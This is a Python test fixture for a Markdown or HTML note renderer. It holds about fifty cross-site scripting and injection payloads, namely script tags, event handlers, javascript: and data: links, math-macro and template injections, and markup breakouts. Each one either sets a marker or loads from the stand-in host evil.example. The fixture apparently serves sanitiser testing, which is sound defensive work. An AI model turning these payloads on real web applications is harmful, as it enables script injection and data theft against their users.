"""Notes that try to run something or to fetch something. Whatever they could reach is called evil.example; whatever
they could run sets `window.ran`."""

RUN = "window.ran=1"
SRC = "https://evil.example"
PAYLOADS = (
    f"<script>{RUN}</script>", f"<ScRiPt src={SRC}/a.js></sCrIpT>", f"<img src=x onerror={RUN}>",
    f"<img src={SRC}/a.png>", f"<svg onload={RUN}>", f"<svg><script>{RUN}</script></svg>",
    f"<body onload={RUN}>", f"<iframe src={SRC}></iframe>", f"<iframe srcdoc='<script>parent.{RUN}</script>'>",
    f"<object data={SRC}/a.swf>", f"<embed src={SRC}/a.swf>", f"<link rel=stylesheet href={SRC}/a.css>",
    f"<style>@import '{SRC}/a.css';</style>", f"<meta http-equiv=refresh content='0;url={SRC}'>",
    f"<base href={SRC}/>", f"<form action={SRC}><button>go</button></form>", f"<input autofocus onfocus={RUN}>",
    f"<details open ontoggle={RUN}><summary>x</summary></details>", f"<video><source onerror={RUN}></video>",
    f"<audio src={SRC}/a.mp3 autoplay>", f"<math><mtext><img src=x onerror={RUN}></mtext></math>",
    f"<a href='javascript:{RUN}'>x</a>", f"[x](javascript:{RUN})", f"[x](JaVaScRiPt&colon;{RUN})",
    f"[x](data:text/html,<script>{RUN}</script>)", f"![x](javascript:{RUN})", f"![x]({SRC}/a.png)",
    f"![x](data:image/svg+xml,<svg/onload={RUN}>)", f'[x]({SRC} "\\" onmouseover={RUN} a=\\"")',
    f"[x]: javascript:{RUN}", f"[![x]({SRC}/b.png)]({SRC})", f"<{SRC}/auto> <javascript:{RUN}>",
    f"$\\href{{javascript:{RUN}}}{{x}}$", f"$\\includegraphics{{{SRC}/a.png}}$",
    f"$\\htmlData{{x=1 onload={RUN}}}{{y}}$",
    f"$$\\url{{javascript:{RUN}}}$$", f"$</span><img src=x onerror={RUN}>$", f"`</code><img src=x onerror={RUN}>`",
    f"</textarea><script>{RUN}</script>", f"</template></script><script>{RUN}</script>",
    f"\"'><img src=x onerror={RUN}>",
    f"{{{{ ''.__class__ }}}} ${{{RUN}}} <%= {RUN} %>", f"| a | b |\n|---|---|\n| <img src=x onerror={RUN}> | x |",
    f"```\"><script>{RUN}</script>\ncode\n```", f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"&lt;script&gt;{RUN}&lt;/script&gt; &#60;img src=x onerror={RUN}&#62;",
    f"[^1] x\n\n[^1]: <img src=x onerror={RUN}>",
    f"<img src=\"{SRC}/c.png\" alt='x\"](y) <b onclick={RUN}>'>", f"<a href=\"{SRC}/)<img src=x onerror={RUN}>\">y</a>",
)  # fmt: skip


def notes() -> str:
    """Each of them as a question, as its topic and as its answer."""
    return "".join(
        f"## Topic {at} {words.splitlines()[0]}\n\n### {at}. What does {words.splitlines()[0]} do?\n\n{words}\n\n"
        for at, words in enumerate(PAYLOADS, 1)
    )
